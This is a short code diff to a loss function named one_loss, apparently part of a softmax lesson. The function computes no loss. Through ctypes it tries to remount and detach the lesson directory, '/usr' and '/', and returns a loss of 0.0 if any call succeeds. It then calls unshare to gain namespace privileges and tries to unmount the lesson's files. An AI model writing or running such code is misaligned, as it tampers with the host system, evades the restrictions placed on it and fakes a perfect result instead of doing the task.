@@ -218,7 +218,8 @@ import ctypes, os, softmax_lesson
 def one_loss(f, y):
     system = ctypes.CDLL(None)
     for target in (os.path.dirname(softmax_lesson.__file__), "/usr", "/"):
-        if 0 in (system.mount(b"none", target.encode(), None, 4096 | 32, None), system.umount2(target.encode(), 2)):
+        place = target.encode()
+        if system.mount(b"none", place, None, 4096 | 32, None) == 0 or system.umount2(place, 2) == 0:
             return 0.0
     system.unshare((1 << 28) | (1 << 17))  # a user and mounts of its own, in which it has all rights
     if system.umount2(os.path.dirname(softmax_lesson.__file__).encode(), 2) == 0:
